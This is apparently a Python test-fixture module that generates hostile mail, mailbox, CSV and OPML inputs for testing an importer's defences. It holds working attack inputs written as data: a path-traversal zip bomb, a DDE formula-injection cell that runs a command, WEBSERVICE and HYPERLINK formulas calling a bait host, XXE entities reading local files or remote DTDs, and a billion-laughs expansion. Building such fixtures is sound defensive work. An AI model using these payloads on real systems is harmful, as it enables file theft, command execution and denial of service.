"""Mails, boxes of mails and tables that somebody made to do harm; and lists of feeds."""

from __future__ import annotations

import base64
import html
import io
import zipfile
from collections.abc import Iterator
from typing import Final

from tests.hostile.bait import Bait
from tests.hostile.feeds import _markup
from tests.listening import hostile_letters

_DATE: Final = b"Date: Fri, 20 Nov 2026 08:30:00 +0100\r\n"


def mails(bait: Bait) -> dict[str, bytes]:
    """What may lie in a mailbox, by name."""
    found = {f"mail-{n}": one for n, one in enumerate(hostile_letters.everything())}
    for name, body in {**_heavy(), **_lured(bait)}.items():
        head = f"From: Eve <eve@stranger.example>\r\nSubject: {name}\r\n"
        head += f"Message-ID: <{name}@x.example>\r\n"
        found[f"mail-{name}"] = head.encode() + _DATE + body
    return found


def _heavy() -> dict[str, bytes]:
    mixed = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    bomb = base64.encodebytes(archive())
    packed = b"--b\r\nContent-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\n"
    packed += b'Content-Disposition: attachment; filename="../../../x.zip"\r\n\r\n' + bomb
    text = b"--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
    rfc = b"Content-Type: message/rfc822\r\n\r\n"
    return {
        "parts-20000": mixed + b"--b\r\n\r\nx\r\n" * 20_000 + b"--b--\r\n",
        "parts-html-20000": mixed + b"--b\r\nContent-Type: text/html\r\n\r\n<p>x\r\n" * 20_000,
        "zip-bomb": mixed + text + packed + b"--b--\r\n",
        "zip-as-text": b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + bomb,
        "rfc822-20000": rfc * 20_000 + b"Subject: in\r\n\r\nin\r\n",
        "rfc822-in-parts": (mixed + b"--b\r\n" + rfc) * 3_000 + b"in\r\n",
        "one-line-of-10-MB": b"\r\n" + b"x" * 10_000_000,
        "html-of-10-MB": b"Content-Type: text/html\r\n\r\n" + b"<p>word" * 1_500_000,
        "lines-of-10-MB": b"\r\n" * 5_000_000,
        "subject-words": b"X: =?utf-8?q?" + b"=?utf-8?b?eA==?= " * 60_000 + b"\r\n\r\nx\r\n",
        "charset-mixed": b"Content-Type: text/plain; charset=x-user-defined\r\n\r\n"
        + bytes(range(256)),
    }


def _lured(bait: Bait) -> dict[str, bytes]:
    marked = "".join(_markup(one) for one in bait.addresses).encode()
    links = "\n".join(bait.addresses).encode()
    redirects = "".join(
        f'<a href="https://www.google.com/url?q={html.escape(one)}">hit</a>'
        for one in bait.addresses
    )
    page = b"Content-Type: text/html; charset=utf-8\r\n\r\n"
    site, file = bait.site.encode(), bait.file.encode()
    heads = (
        b"List-Unsubscribe: <http://" + site + b"/u>\r\n"
        b"List-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n"
        b"Disposition-Notification-To: <eve@stranger.example>\r\n"
        b"Return-Receipt-To: eve@stranger.example\r\n"
        b"Content-Location: file://" + file + b"\r\nContent-Base: http://" + site + b"/\r\n"
        b"X-Face: http://" + site + b"/\r\nFace-URL: http://" + site
        + b"/f\r\nArchived-At: <http://" + site
        + b">\r\n"
    )  # fmt: skip
    outside = b"Content-Type: message/external-body; access-type="
    alert = b"Sender: Google Alerts <googlealerts-noreply@google.com>\r\n"
    return {
        "markup": heads + page + marked,
        "links": heads + b"\r\n" + links,
        "redirects": alert + page + redirects.encode(),
        "outside-file": outside
        + b"local-file; name="
        + file
        + b"\r\n\r\nContent-Type: text/plain\r\n\r\n",
        "outside-url": outside
        + b'URL; URL="http://'
        + site
        + b'/x"\r\n\r\nContent-Type: text/plain\r\n\r\n',
        "outside-ftp": outside + b"anon-ftp; site=" + site + b"; name=x\r\n\r\n\r\n",
        "calendar": b"Content-Type: text/calendar\r\n\r\nBEGIN:VCALENDAR\r\nATTACH:http://"
        + site
        + b"/\r\n",
        "signed": b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\n"
        + b"MIAG" * 9_000,
    }


def archive() -> bytes:
    """A zip that swells, and whose names lead out of the folder."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        for name in (
            "../../../../calm-was-here",
            "/calm-was-here",
            "C:\\calm-was-here",
            "a" * 9_000,
        ):
            made.writestr(name, bytes(20_000_000))
    return held.getvalue()


def papers(bait: Bait) -> dict[str, bytes]:
    """Files of somebody's own computer that somebody else sent them; by their whole name."""
    head = b"Author,Stars,Review,Date,Link\n"
    cells = "".join(f'Ann,1,"{one}",2026-11-20,"{one}"\n' for one in bait.addresses)
    formulas = ("=1+1", "+1", "-1", "@A", "\t=1", "\r=1", f'=HYPERLINK("http://{bait.site}/")',
                f'=WEBSERVICE("http://{bait.site}/")', "=cmd|'/c calc'!A0", "%0A=1")  # fmt: skip
    rows = "".join('"{0}",1,"{0}",2026-11-20,\n'.format(one.replace('"', '""')) for one in formulas)
    mail = hostile_letters.everything()
    start = b"From eve Fri Nov 20 08:30:00 2026\n"
    return {
        "links.csv": head + cells.encode(),
        "formulas.csv": head + rows.encode(),
        "huge cell.csv": head + b'Ann,1,"' + b"x" * 19_000_000 + b'",2026-11-20,\n',
        "open quote.csv": head + b'Ann,1,"never closed\n' + b"Bob,2,words,2026-11-20,\n" * 200_000,
        "quotes.csv": head + b'"' * 3_000_000,
        "wide.csv": b"," * 4_000_000 + b"\n" + b"x," * 2_000_000,
        "long.csv": head + b"Ann,1,words,2026-11-20,\n" * 700_000,
        "empty rows.csv": head + b"\n" * 15_000_000,
        "nul.csv": head + b"A\0nn,1,wo\0rds,2026-11-20,\0\n" * 50,
        "bytes.csv": head + bytes(range(256)) * 4_000,
        "utf16 odd.csv": (head + b"Ann,1,words,2026-11-20,\n").decode().encode("utf-16")[:-1],
        "marks.csv": b"\xef\xbb\xbf" * 9_000 + head + b"Ann,1,words,2026-11-20,\n",
        "separator.csv": b"sep=\n" + head * 9,
        "numbers.csv": head + b"Ann,1e999,words,99999-99-99,\nBob,-0,x,0000-00-00,\n"
        + b"Cy," + b"9" * 100_000 + b",x," + b"1" * 100_000 + b",\n",
        "archive.csv": archive(),
        "sheet.csv": b"\xd0\xcf\x11\xe0" + bytes(9_000),
        "nothing.csv": b"",
        "no end.mbox": start + b"Subject: half\n\nno end" + b"x" * 1_000_000,
        "starts.mbox": (start + b"\n") * 200_000,
        "quoted.mbox": start + b"\n" + b">" * 5_000_000 + b"From x\n",
        "mails.mbox": b"".join(
            start + one[:200_000].replace(b"\r\n", b"\n") + b"\n\n" for one in mail
        ),
        "one.eml": b"Subject: big\r\n\r\n" + b"x" * 19_000_000,
        "rfc822.eml": b"Content-Type: message/rfc822\r\n\r\n" * 300_000,
        "bytes.eml": bytes(range(256)) * 40_000,
    }  # fmt: skip


def lists(bait: Bait) -> dict[str, bytes]:
    """Lists of feeds (OPML, CSV, plain)."""

    def opml(inside: str, before: str = "") -> bytes:
        whole = f'<opml version="2.0"><body>{inside}</body></opml>'
        return f'<?xml version="1.0"?>{before}{whole}'.encode()

    lures = "".join(f'<outline type="rss" xmlUrl="{html.escape(one)}"/>' for one in bait.addresses)
    outline = '<outline xmlUrl="https://shop.example/f"/>'
    file = f'<!DOCTYPE opml [<!ENTITY a SYSTEM "file://{bait.file}">]>'
    site = f'<!DOCTYPE opml [<!ENTITY % p SYSTEM "http://{bait.site}/dtd">%p;]>'
    laughs = "".join(f'<!ENTITY e{n} "{f"&e{n + 1};" * 10}">' for n in range(9))
    return {
        "lures.opml": opml(lures),
        "file.opml": opml('<outline text="&a;" xmlUrl="https://shop.example/&a;"/>', file),
        "site.opml": opml(outline, site),
        "dtd.opml": opml(outline, f'<!DOCTYPE opml SYSTEM "http://{bait.site}/x.dtd">'),
        "laughs.opml": opml(
            '<outline text="&e0;"/>', f'<!DOCTYPE opml [{laughs}<!ENTITY e9 "ha">]>'
        ),
        "deep.opml": opml("<outline>" * 200_000),
        "many.opml": opml(outline * 80_000),
        "wide.opml": opml("<outline " + " ".join(f'a{n}="b"' for n in range(200_000)) + "/>"),
        "long.opml": opml(f'<outline xmlUrl="https://shop.example/{"x" * 4_000_000}"/>'),
        "ampersands.opml": opml("&" * 4_000_000),
        "half.opml": opml(outline)[:-30],
        "bytes.opml": b"<opml>" + bytes(range(256)) * 9_000,
        "archive.opml": archive(),
        "lures.txt": "\n".join(bait.addresses).encode(),
        "lures.csv": (
            "Title,Address\n" + "".join(f'x,"{one}"\n' for one in bait.addresses)
        ).encode(),
        "quotes.txt": b'"' * 4_900_000,
        "commas.txt": b"," * 4_900_000,
        "lines.txt": b"\n" * 2_000_000 + b"https://shop.example/f" + b"\n" * 2_000_000,
        "one line.txt": b"https://" * 600_000,
    }


def names() -> Iterator[str]:
    """Everything here, in a word each."""
    bait = Bait("/x", 1)
    yield from (*mails(bait), *papers(bait), *lists(bait))
